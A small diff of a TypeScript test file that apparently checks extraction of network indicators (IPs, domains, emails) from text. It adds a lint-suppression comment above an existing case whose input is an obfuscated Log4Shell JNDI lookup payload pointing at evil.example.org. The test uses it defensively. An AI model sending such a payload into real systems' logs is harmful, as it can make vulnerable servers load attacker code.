@@ -415,6 +415,7 @@ const kinds: Readonly<Record<string, readonly Case[]>> = {
       'ip%3D192.0.2.7%26host%3Devil.example.org bob%40evil.example.org',
       ['IPV4 192.0.2.7', 'DOMAIN evil.example.org', 'EMAIL bob@evil.example.org'],
     ],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4j's lookups look so
     ['${jndi:${lower:l}${lower:d}a${lower:p}://evil.example.org/x}', ['DOMAIN evil.example.org']],
   ],
   'the whole of a mail address, or nothing': [
